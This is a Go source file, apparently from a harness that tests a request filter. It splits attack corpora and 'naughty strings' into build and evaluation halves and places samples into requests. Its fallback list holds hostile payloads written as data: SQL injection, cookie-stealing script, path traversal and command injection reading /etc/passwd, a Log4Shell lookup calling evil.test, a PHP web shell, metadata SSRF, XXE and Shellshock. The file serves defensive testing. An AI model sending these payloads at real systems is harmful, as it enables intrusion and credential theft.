package referee

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
)

// Half is a half of the corpora, by the first byte of each text's SHA-256. What is built on the one is judged by the other.
type Half int

// Even is the half to build on; Odd is opened for reports only.
const (
	Even Half = 0
	Odd  Half = 1
)

// of tells whether a text belongs to the half.
func (h Half) of(text string) bool { return Half(sha256.Sum256([]byte(text))[0]&1) == h }

// Sample is a text of a corpus.
type Sample struct {
	From string // the file, below the corpora's folder
	Text string
}

// Corpus reads one half of the attacks and of the odd but harmless texts below the folder of the corpora, each text once,
// in a fixed order.
func Corpus(folder string, half Half) (attacks, naughty []Sample, err error) {
	seen := map[string]bool{}
	err = filepath.WalkDir(filepath.Join(folder, "attacks"), func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(d.Name(), "_") || slices.Contains([]string{"LICENSE", "README.md"}, d.Name()) {
			return err
		}
		data, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		from, err := filepath.Rel(folder, name)
		for line := range strings.Lines(string(data)) {
			line = strings.TrimRight(line, "\r\n")
			if line != "" && len(line) <= 8<<10 && !seen[line] && half.of(line) {
				seen[line] = true
				attacks = append(attacks, Sample{from, line})
			}
		}
		return err
	})
	if err != nil {
		return nil, nil, err
	}
	data, err := os.ReadFile(filepath.Join(folder, "naughty-strings", "blns.json"))
	if err != nil {
		return nil, nil, err
	}
	var list []string
	if err := json.Unmarshal(data, &list); err != nil {
		return nil, nil, err
	}
	for _, text := range list {
		if half.of(text) {
			naughty = append(naughty, Sample{"naughty-strings/blns.json", text})
		}
	}
	return attacks, naughty, nil
}

// Spread places texts in every spot by turns, at most so many requests, from all over the list.
func (c *Collector) Spread(samples []Sample, most int, s Settings) ([]Request, error) {
	spots := Spots()
	total := len(samples) * len(spots)
	var list []Request
	for n := range min(total, most) {
		i := n
		if total > most {
			i = n*(total/most) + n%len(spots)
		}
		sample, spot := samples[i/len(spots)%len(samples)], spots[(i+i/len(spots))%len(spots)]
		r, err := c.Placed(fmt.Sprintf("%s %.40q", sample.From, sample.Text), sample.Text, spot, s)
		if err != nil {
			return nil, err
		}
		list = append(list, r)
	}
	return list, nil
}

// Extract is our own small list, for where there are no corpora.
func Extract() (attacks, naughty []Sample) {
	for _, text := range []string{
		"1' OR '1'='1' UNION SELECT password FROM users--", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", ";cat /etc/passwd",
		"${jndi:ldap://evil.test/a}", "<?php system($_GET['c']);", "http://169.254.169.254/latest/meta-data/", "{{7*7}}", "%0d%0aSet-Cookie: a=b",
		"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "*)(uid=*))(|(uid=*", "() { :;}; /bin/bash -c id", "sleep(5)", "\u017fleep(5)",
	} {
		attacks = append(attacks, Sample{"own", text})
	}
	for _, text := range []string{"", "undefined", "1;DROP TABLE users", "Zoë", "\u202etest", "表ポあ", "Scunthorpe General Hospital", "select specialty hospital", "\x00", "if you select from the menu"} {
		naughty = append(naughty, Sample{"own", text})
	}
	return attacks, naughty
}
